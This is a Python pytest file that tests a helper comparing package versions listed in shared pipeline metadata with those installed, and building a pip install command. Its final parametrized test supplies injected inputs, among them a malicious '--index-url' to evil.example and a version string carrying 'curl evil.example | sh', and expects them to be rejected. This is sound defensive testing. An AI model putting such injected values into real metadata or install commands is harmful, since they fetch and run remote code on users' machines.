from importlib.metadata import PackageNotFoundError, version

import pytest

from pipeline.sharing import packages
from pipeline.sharing.packages import compare_packages, own_versions, plain


def test_what_is_installed_needs_nothing():
    metadata = {
        "pytorch_version": plain(version("torch")),
        "required_packages_version": own_versions(),
    }
    assert compare_packages(metadata) == ({}, {})


def test_missing_and_other_packages(monkeypatch):
    def without_tqdm(name):
        if name == "tqdm":
            raise PackageNotFoundError(name)
        return version(name)

    monkeypatch.setattr(packages, "version", without_tqdm)
    metadata = {
        "monai_version": "0.1.0",
        "required_packages_version": {"tqdm": "1.0", "pyyaml": "1.0"},
    }
    found = compare_packages(metadata)
    assert found.missing == {"tqdm": "1.0"}
    assert found.other == {
        "monai": ("0.1.0", version("monai")),
        "pyyaml": ("1.0", version("pyyaml")),
    }
    assert found.command() == "pip install tqdm==1.0"


@pytest.mark.parametrize(
    "listed",
    [
        {"no-such-package": "1.0"},
        {"--index-url=http://evil.example/simple": "1.0"},
        {"tqdm": "1; curl evil.example | sh"},
        {"tqdm": ""},
        ["tqdm"],
    ],
)
def test_what_is_none_of_ours_is_not_told_to_be_installed(listed):
    with pytest.raises(ValueError, match="required_packages_version"):
        compare_packages({"required_packages_version": listed})
